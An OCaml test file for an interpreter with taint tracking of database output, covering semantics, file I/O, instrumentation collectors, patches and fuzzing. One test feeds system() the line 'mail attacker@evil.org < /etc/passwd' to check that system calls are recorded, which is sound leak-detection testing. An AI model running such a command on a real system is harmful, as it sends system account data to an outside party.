(* Tests for the interpreter and its instrumentation: language
   semantics, scripted I/O, dynamic taint labels, patches, collectors,
   and failure handling. *)

module Parser = Applang.Parser
module Analyzer = Analysis.Analyzer
module Symbol = Analysis.Symbol
module Interp = Runtime.Interp
module Testcase = Runtime.Testcase
module Collector = Runtime.Collector

let run_src ?(input = []) ?(files = []) ?patches ?(setup = fun _ -> ()) src =
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let engine = Sqldb.Engine.create () in
  setup engine;
  let tc = Testcase.make ~input ~files "t" in
  Interp.collect_trace ?patches ~analysis ~engine tc

let stdout_of ?input ?files ?setup src =
  let _, out = run_src ?input ?files ?setup src in
  (match out.Interp.status with
  | Ok () -> ()
  | Error msg -> Alcotest.failf "unexpected runtime error: %s" msg);
  out.Interp.stdout

let symbols_of trace =
  Array.to_list (Array.map (fun (e : Collector.event) -> Symbol.to_string e.Collector.symbol) trace)

(* --- language semantics --------------------------------------------------- *)

let test_arith () =
  Alcotest.(check string) "arithmetic and precedence" "17 1 2"
    (stdout_of "fun main() { printf(\"%d %d %d\", 3 + 2 * 7, 7 % 2, 7 / 3); }")

let test_string_ops () =
  Alcotest.(check string) "concat and compare" "ab-3-true"
    (stdout_of
       {|fun main() { printf("%s-%d-%s", strcat("a", "b"), strlen("abc"), to_string(strcmp("a","a") == 0)); }|})

let test_control_flow () =
  Alcotest.(check string) "loops with break/continue" "0 1 3 4 "
    (stdout_of
       {|
         fun main() {
           for (let i = 0; i < 10; i = i + 1) {
             if (i == 2) { continue; }
             if (i == 5) { break; }
             printf("%d ", i);
           }
         }
       |})

let test_while_and_functions () =
  Alcotest.(check string) "recursion" "120"
    (stdout_of
       {|
         fun fact(n) {
           if (n <= 1) { return 1; }
           return n * fact(n - 1);
         }
         fun main() { printf("%d", fact(5)); }
       |})

let test_short_circuit () =
  (* The right operand must not run when the left decides. *)
  let trace, _ =
    run_src
      {|
        fun main() {
          if (1 == 2 && boom() == 1) { printf("no"); }
          if (1 == 1 || boom() == 1) { printf("yes"); }
        }
        fun boom() { puts("BOOM"); return 1; }
      |}
  in
  Alcotest.(check bool) "boom never called" true
    (not (List.exists (fun s -> s = "puts") (symbols_of trace)))

let test_scanf_scripting () =
  Alcotest.(check string) "scripted stdin" "hello 42 "
    (stdout_of ~input:[ "hello"; "42" ]
       {|fun main() { printf("%s %d ", scanf(), scanf_int()); }|});
  Alcotest.(check string) "exhausted input reads empty" "[]"
    (stdout_of {|fun main() { printf("[%s]", scanf()); }|})

let test_printf_formatting () =
  Alcotest.(check string) "percent escapes and missing args" "50% x "
    (stdout_of {|fun main() { printf("50%% %s %s", "x"); }|})

let test_files_roundtrip () =
  let _, out =
    run_src
      {|
        fun main() {
          let w = fopen("data.txt", "w");
          fputs("line one\nline two", w);
          fclose(w);
          let r = fopen("data.txt", "r");
          while (feof(r) == false) {
            puts(strcat("got: ", fgets(r)));
          }
          fclose(r);
        }
      |}
  in
  Alcotest.(check string) "read back what was written" "got: line one\ngot: line two\n"
    out.Interp.stdout;
  Alcotest.(check bool) "file contents recorded" true
    (List.mem_assoc "data.txt" out.Interp.files)

let test_seeded_files () =
  Alcotest.(check string) "test case supplies file contents" "a\nb\n"
    (stdout_of ~files:[ ("in.txt", "a\nb") ]
       {|
         fun main() {
           let f = fopen("in.txt", "r");
           while (feof(f) == false) { puts(fgets(f)); }
         }
       |})

let test_runtime_errors () =
  let expect_error src pattern =
    let _, out = run_src src in
    match out.Interp.status with
    | Error msg ->
        Alcotest.(check bool)
          (Printf.sprintf "error mentions %S (got %S)" pattern msg)
          true
          (let n = String.length pattern in
           let rec probe i = i + n <= String.length msg && (String.sub msg i n = pattern || probe (i + 1)) in
           probe 0)
    | Ok () -> Alcotest.failf "expected a runtime error for %s" src
  in
  expect_error "fun main() { printf(\"%d\", 1 / 0); }" "division";
  expect_error "fun main() { printf(\"%d\", x); }" "unbound";
  expect_error "fun main() { no_such_fn(); }" "unknown";
  expect_error "fun main() { f(1, 2); } fun f(a) { }" "arguments"

let test_step_budget () =
  let _, out = run_src "fun main() { while (true) { let x = 1; } }" in
  match out.Interp.status with
  | Error msg -> Alcotest.(check bool) "budget error" true (String.length msg > 0)
  | Ok () -> Alcotest.fail "infinite loop must exhaust the budget"

(* --- dynamic taint and labels ---------------------------------------------- *)

let setup_clients engine =
  ignore (Sqldb.Engine.exec engine "CREATE TABLE clients (id, name)");
  ignore (Sqldb.Engine.exec engine "INSERT INTO clients VALUES (1, 'alice'), (2, 'bob')")

let test_dynamic_labels () =
  let trace, out =
    run_src ~setup:setup_clients
      {|
        fun main() {
          let r = pq_exec(db_connect("pg"), "SELECT name FROM clients WHERE id = 1");
          printf("%s\n", pq_getvalue(r, 0, 0));
          printf("just text\n");
        }
      |}
  in
  let labeled =
    List.filter (fun (e : Collector.event) -> Symbol.is_labeled e.Collector.symbol)
      (Array.to_list trace)
  in
  Alcotest.(check int) "exactly one labeled printf" 1 (List.length labeled);
  Alcotest.(check int) "one leaked value counted" 1 out.Interp.leaked_values;
  Alcotest.(check string) "output contains the data" "alice\njust text\n" out.Interp.stdout

let test_dynamic_taint_cleared () =
  let trace, _ =
    run_src ~setup:setup_clients
      {|
        fun main() {
          let v = pq_getvalue(pq_exec(db_connect("pg"), "SELECT name FROM clients"), 0, 0);
          v = "constant";
          printf("%s", v);
        }
      |}
  in
  Alcotest.(check bool) "no label after overwrite" true
    (not (List.exists (fun (e : Collector.event) -> Symbol.is_labeled e.Collector.symbol)
            (Array.to_list trace)))

let test_trace_callers () =
  let trace, _ =
    run_src "fun main() { helper(); puts(\"m\"); } fun helper() { puts(\"h\"); }"
  in
  let callers = Array.to_list (Array.map (fun (e : Collector.event) -> e.Collector.caller) trace) in
  Alcotest.(check (list string)) "callers recorded" [ "helper"; "main" ] callers

let test_patches_fire () =
  let src = "fun main() { puts(\"a\"); puts(\"b\"); }" in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  (* find the block of the first puts *)
  let cfg = List.assoc "main" analysis.Analyzer.front.Analysis.Front.cfgs in
  let first_puts =
    fst (List.hd (Analysis.Cfg.call_nodes cfg))
  in
  let patches =
    [
      {
        Runtime.Patch.position = Runtime.Patch.After_block first_puts;
        calls = [ { Runtime.Patch.name = "fwrite"; leaks_td = true } ];
      };
      {
        Runtime.Patch.position = Runtime.Patch.At_function_entry "main";
        calls = [ { Runtime.Patch.name = "lib_probe"; leaks_td = false } ];
      };
    ]
  in
  let engine = Sqldb.Engine.create () in
  let trace, out = Interp.collect_trace ~patches ~analysis ~engine (Testcase.make "t") in
  Alcotest.(check bool) "run ok" true (out.Interp.status = Ok ());
  let syms = symbols_of trace in
  Alcotest.(check (list string)) "patched calls appear in order"
    [ "lib_probe"; "puts"; Printf.sprintf "fwrite_Q%d" first_puts; "puts" ]
    syms

let test_ltrace_collector () =
  let src = "fun main() { printf(\"%d\", strlen(\"abc\")); }" in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let symtab = Runtime.Ltrace.symtab_of_cfgs analysis.Analyzer.front.Analysis.Front.cfgs in
  let collector, stats, log = Runtime.Ltrace.make ~symtab in
  let engine = Sqldb.Engine.create () in
  ignore (Interp.run ~collector ~analysis ~engine (Testcase.make "t"));
  Alcotest.(check int) "two calls intercepted" 2 stats.Runtime.Ltrace.calls;
  Alcotest.(check bool) "log grew" true (stats.Runtime.Ltrace.bytes > 0);
  let contents = Buffer.contents log in
  Alcotest.(check bool) "log resolves the caller" true
    (let probe = "main+" in
     let n = String.length probe in
     let rec go i = i + n <= String.length contents && (String.sub contents i n = probe || go (i + 1)) in
     go 0)

(* --- shared call-site events ------------------------------------------------ *)

let builtin_apps () =
  [
    Dataset.Ca_hospital.app ();
    Dataset.Ca_banking.app ();
    Dataset.Ca_supermarket.app ();
    Dataset.Sir.app1 ();
    Dataset.Sir.app2 ();
    Dataset.Sir.app3 ();
    Dataset.Sir.app4 ();
    Dataset.Web_portal.app ();
  ]

(* A collector that builds every event afresh from the call itself: the
   callee's name, the function whose CFG holds the block, and the label
   the taint rule gives the call's arguments. *)
let fresh_collector (analysis : Analyzer.t) =
  let caller_of block =
    List.find_map
      (fun (f, cfg) -> if Hashtbl.mem cfg.Analysis.Cfg.nodes block then Some f else None)
      analysis.Analyzer.front.Analysis.Front.cfgs
  in
  let events = ref [] in
  let emit (ev : Collector.event) ~args =
    let name = Symbol.name ev.Collector.symbol and block = ev.Collector.block in
    let tainted = List.exists (fun (v : Runtime.Rvalue.t) -> v.Runtime.Rvalue.taint) args in
    let label =
      if Applang.Libspec.is_sink name && tainted && block >= 0 then Some block else None
    in
    let caller = Option.value (caller_of block) ~default:ev.Collector.caller in
    events :=
      { Collector.symbol = Symbol.Lib { name; label; site = None }; caller; block }
      :: !events
  in
  ({ Collector.emit }, fun () -> Array.of_list (List.rev !events))

let test_shared_events_equal_fresh () =
  List.iter
    (fun (app : Adprom.Pipeline.app) ->
      let analysis = Adprom.Pipeline.analyze_app app in
      List.iter
        (fun tc ->
          let shared, shared_trace = Collector.adprom () in
          let fresh, fresh_trace = fresh_collector analysis in
          let collector =
            { Collector.emit = (fun ev ~args -> shared.emit ev ~args; fresh.emit ev ~args) }
          in
          ignore
            (Interp.run ~collector ~analysis
               ~engine:(Adprom.Pipeline.fresh_engine app)
               tc);
          if shared_trace () <> fresh_trace () then
            Alcotest.failf "%s/%s: shared trace differs from the fresh one"
              app.Adprom.Pipeline.name tc.Testcase.name)
        app.Adprom.Pipeline.test_cases)
    (builtin_apps ())

let test_banking_events_per_site () =
  let app = Dataset.Ca_banking.app () in
  let analysis = Adprom.Pipeline.analyze_app app in
  let seen = Hashtbl.create 64 in
  let calls = ref 0 in
  List.iter
    (fun tc ->
      let trace, _ = Adprom.Pipeline.run_case ~analysis app tc in
      Array.iter
        (fun (e : Collector.event) ->
          incr calls;
          let records = Option.value (Hashtbl.find_opt seen e.Collector.block) ~default:[] in
          if not (List.memq e records) then Hashtbl.replace seen e.Collector.block (e :: records))
        trace)
    app.Adprom.Pipeline.test_cases;
  let sites = Hashtbl.length seen in
  let records = Hashtbl.fold (fun _ l acc -> acc + List.length l) seen 0 in
  Alcotest.(check bool)
    (Printf.sprintf "%d calls over %d sites" !calls sites)
    true
    (sites > 10 && !calls > 10 * sites);
  Hashtbl.iter
    (fun block l ->
      if block < 0 || List.length l > 2 then
        Alcotest.failf "block %d: %d distinct records" block (List.length l))
    seen;
  Alcotest.(check bool) (Printf.sprintf "%d records in all" records) true (records <= 2 * sites)

let test_mysql_runtime_flow () =
  let stdout =
    stdout_of ~setup:setup_clients
      {|
        fun main() {
          let conn = db_connect("mysql");
          if (mysql_query(conn, "SELECT name FROM clients ORDER BY id") == 0) {
            let res = mysql_store_result(conn);
            let row = mysql_fetch_row(res);
            while (row != null) {
              puts(row[0]);
              row = mysql_fetch_row(res);
            }
          }
        }
      |}
  in
  Alcotest.(check string) "cursor iteration" "alice\nbob\n" stdout

let test_system_sink () =
  let _, out = run_src {|fun main() { system("mail attacker@evil.org < /etc/passwd"); }|} in
  Alcotest.(check int) "system command recorded" 1 (List.length out.Interp.system_calls)

(* --- differential fuzzing: interpreter vs reference evaluator --------------- *)

(* Two-sorted generator (int-valued and bool-valued expressions, as the
   language's operators demand), evaluated both by the interpreter (via
   to_string) and by a direct OCaml evaluator. *)
type ref_value = R_int of int | R_bool of bool

let rec reference_eval (e : Applang.Ast.expr) =
  let module Ast = Applang.Ast in
  let int_of e = match reference_eval e with R_int n -> n | R_bool _ -> assert false in
  let bool_of e = match reference_eval e with R_bool b -> b | R_int n -> n <> 0 in
  match e with
  | Ast.Int n -> R_int n
  | Ast.Bool b -> R_bool b
  | Ast.Binop (Ast.Add, a, b) -> R_int (int_of a + int_of b)
  | Ast.Binop (Ast.Sub, a, b) -> R_int (int_of a - int_of b)
  | Ast.Binop (Ast.Mul, a, b) -> R_int (int_of a * int_of b)
  | Ast.Binop (Ast.Eq, a, b) -> R_bool (int_of a = int_of b)
  | Ast.Binop (Ast.Ne, a, b) -> R_bool (int_of a <> int_of b)
  | Ast.Binop (Ast.Lt, a, b) -> R_bool (int_of a < int_of b)
  | Ast.Binop (Ast.Le, a, b) -> R_bool (int_of a <= int_of b)
  | Ast.Binop (Ast.Gt, a, b) -> R_bool (int_of a > int_of b)
  | Ast.Binop (Ast.Ge, a, b) -> R_bool (int_of a >= int_of b)
  | Ast.Binop (Ast.And, a, b) -> R_bool (bool_of a && bool_of b)
  | Ast.Binop (Ast.Or, a, b) -> R_bool (bool_of a || bool_of b)
  | Ast.Unop (Ast.Neg, a) -> R_int (-int_of a)
  | Ast.Unop (Ast.Not, a) -> R_bool (not (bool_of a))
  | Ast.Binop ((Ast.Div | Ast.Mod), _, _)
  | Ast.Str _ | Ast.Null | Ast.Var _ | Ast.Call _ | Ast.Index _ ->
      assert false

let typed_expr_gen =
  let open QCheck2.Gen in
  let module Ast = Applang.Ast in
  let rec int_expr n =
    if n <= 0 then map (fun i -> Ast.Int (i mod 100)) small_int
    else
      oneof
        [
          map (fun i -> Ast.Int (i mod 100)) small_int;
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.Add; Ast.Sub; Ast.Mul ])
            (int_expr (n / 2)) (int_expr (n / 2));
          map (fun a -> Ast.Unop (Ast.Neg, a)) (int_expr (n / 2));
        ]
  and bool_expr n =
    if n <= 0 then map (fun b -> Ast.Bool b) bool
    else
      oneof
        [
          map (fun b -> Ast.Bool b) bool;
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.Eq; Ast.Ne; Ast.Lt; Ast.Le; Ast.Gt; Ast.Ge ])
            (int_expr (n / 2)) (int_expr (n / 2));
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.And; Ast.Or ])
            (bool_expr (n / 2)) (bool_expr (n / 2));
          map (fun a -> Ast.Unop (Ast.Not, a)) (bool_expr (n / 2));
        ]
  in
  sized (fun n -> oneof [ int_expr (min n 8); bool_expr (min n 8) ])

let prop_interpreter_matches_reference =
  QCheck2.Test.make ~name:"interpreter agrees with the reference evaluator" ~count:300
    typed_expr_gen
    (fun e ->
      let expected =
        match reference_eval e with
        | R_int n -> string_of_int n
        | R_bool b -> if b then "true" else "false"
      in
      let src =
        Printf.sprintf "fun main() { printf(\"%%s\", to_string(%s)); }"
          (Applang.Pretty.expr_to_string e)
      in
      match Parser.parse_program src with
      | exception _ -> false
      | program -> (
          let analysis = Analyzer.analyze program in
          let engine = Sqldb.Engine.create () in
          let out = Interp.run ~collector:Collector.null ~analysis ~engine (Testcase.make "fuzz") in
          match out.Interp.status with
          | Ok () -> out.Interp.stdout = expected
          | Error _ -> false))

let () =
  Alcotest.run "runtime"
    [
      ( "semantics",
        [
          Alcotest.test_case "arithmetic" `Quick test_arith;
          Alcotest.test_case "strings" `Quick test_string_ops;
          Alcotest.test_case "control flow" `Quick test_control_flow;
          Alcotest.test_case "recursion" `Quick test_while_and_functions;
          Alcotest.test_case "short circuit" `Quick test_short_circuit;
          Alcotest.test_case "scanf scripting" `Quick test_scanf_scripting;
          Alcotest.test_case "printf formatting" `Quick test_printf_formatting;
          Alcotest.test_case "file round trip" `Quick test_files_roundtrip;
          Alcotest.test_case "seeded files" `Quick test_seeded_files;
          Alcotest.test_case "runtime errors" `Quick test_runtime_errors;
          Alcotest.test_case "step budget" `Quick test_step_budget;
        ] );
      ( "fuzz",
        [ QCheck_alcotest.to_alcotest prop_interpreter_matches_reference ] );
      ( "instrumentation",
        [
          Alcotest.test_case "dynamic DB-output labels" `Quick test_dynamic_labels;
          Alcotest.test_case "taint cleared by overwrite" `Quick test_dynamic_taint_cleared;
          Alcotest.test_case "callers in the trace" `Quick test_trace_callers;
          Alcotest.test_case "binary patches fire" `Quick test_patches_fire;
          Alcotest.test_case "ltrace collector" `Quick test_ltrace_collector;
          Alcotest.test_case "mysql cursor flow" `Quick test_mysql_runtime_flow;
          Alcotest.test_case "system sink recorded" `Quick test_system_sink;
          Alcotest.test_case "shared events = fresh events, every app" `Quick
            test_shared_events_equal_fresh;
          Alcotest.test_case "banking: two records per call site" `Quick
            test_banking_events_per_site;
        ] );
    ]
